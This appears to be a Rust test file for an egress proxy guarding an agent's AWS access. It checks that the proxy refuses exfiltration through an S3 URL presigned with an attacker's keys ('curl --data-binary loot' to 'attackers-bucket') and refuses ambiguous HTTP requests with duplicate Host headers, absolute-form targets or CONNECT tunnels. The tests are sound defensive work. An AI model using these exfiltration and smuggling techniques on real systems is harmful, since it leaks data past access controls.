//! What `destination`, `credentials`, `policy` and `bad_input` leave of cases 16, 19 and 20.

use tollgate_tests::host::Agent;

use super::{CURL, host, outcomes, reached, told};

/// Runs shell lines in which `signed SERVICE ARGS…` is a signed request with curl.
fn signed(agent: &Agent<'_>, lines: &str) -> tollgate_tests::host::Output {
    agent.run(&["sh", "-c", &format!("{CURL}\n{lines}")])
}

#[test]
fn an_unrecognised_operation_is_permitted_by_its_own_name_alone() {
    // The query protocol has one path, and this is none of its.
    let unknown = "signed sts 'https://sts.us-east-1.amazonaws.com/v9/everything'";
    let agent = host().agent("unknown");
    let message = signed(&agent, unknown).failed();
    assert!(message.contains("AccessDenied") && message.contains("unknown:unknown"), "{message}");
    assert_eq!(
        agent.timeline().only("unknown:unknown").decision,
        "deny",
        "`permit (principal, action, resource)` covers it not"
    );
    told(&agent, "blocked", "not recognised");
    let agent = host().agent("knows");
    // Let through by name; the service, which does not know it either, has the word.
    let message = signed(&agent, unknown).text();
    assert!(!message.contains("Tollgate"), "{message}");
    let timeline = agent.timeline();
    let exchange = timeline.only("unknown:unknown");
    assert_eq!(
        (exchange.decision.as_str(), exchange.policies.as_slice()),
        ("allow", &["unknown-by-name".to_owned()][..])
    );
}

#[test]
fn a_url_that_was_signed_elsewhere_is_refused() {
    // The attacker's keys need not be in the tag: what they signed can be brought along.
    let agent = host().agent("presigned");
    let outside = host()
        .outsider("attacker")
        .env("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE")
        .env("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")
        .env("AWS_DEFAULT_REGION", "us-east-1");
    let url = outside.run(&["aws", "s3", "presign", "s3://attackers-bucket/loot"]).ok();
    assert!(url.contains("attackers-bucket"), "{url}");
    let answer = agent.run(&["curl", "-sS", "--data-binary", "loot", &url]).ok();
    assert!(answer.contains("<Code>") && !answer.contains("the outside world"), "{answer}");
    for name in ["attackers-bucket.s3.us-east-1.amazonaws.com", "attackers-bucket.s3.amazonaws.com"] {
        assert!(!reached(name), "{name}");
    }
    assert!(agent.timeline().exchanges.iter().all(|e| e.decision == "refuse"), "{:#?}", agent.timeline());
}

#[test]
fn an_address_of_awss_under_another_name_is_not_governed() {
    // Not stopped with `egress.default = "splice"`: the held key is not in it, but data may be.
    let (agent, name) = (host().agent("other-names"), tollgate_tests::host::unique("other") + ".example.org");
    let script = "say(found=attempt(lambda: connect((AWS4, 443))))";
    assert_eq!(outcomes(&agent, &name, script)["found"], "world");
    assert!(reached(&name));
    let event = told(&agent, "spliced", &name);
    assert_eq!(event.field("TOLLGATE_DESTINATION"), "198.51.100.7:443", "{event:?}");
}

#[test]
fn plain_http_that_two_could_read_in_two_ways_names_nobody() {
    let agent = host().agent("two-readings");
    let script = r"
def raw(text):
    s = socket.create_connection((AWS4, 80), 10)
    s.settimeout(10)
    s.sendall(text.encode())
    return who(s.recv(4096))
say(two_hosts=attempt(lambda: raw(f'GET / HTTP/1.1\r\nHost: a.example.org\r\nHost: {NAME}\r\n\r\n')),
    proxy=attempt(lambda: raw(f'GET http://{NAME}/ HTTP/1.1\r\nHost: a.example.org\r\n\r\n')),
    tunnel=attempt(lambda: raw(f'CONNECT {NAME}:443 HTTP/1.1\r\nHost: a.example.org\r\n\r\n')))
";
    let found = outcomes(&agent, &super::aws_name("readings"), script);
    assert!(found.as_object().expect("an object").values().all(|w| w != "world"), "{found}");
    for reason in ["more than one Host header", "its target is in absolute form", "it asks this address to be a proxy"]
    {
        told(&agent, "refused", reason);
    }
    assert!(!host().world().iter().any(|e| e["at"] == "198.51.100.7:80"), "{:?}", host().world());
}
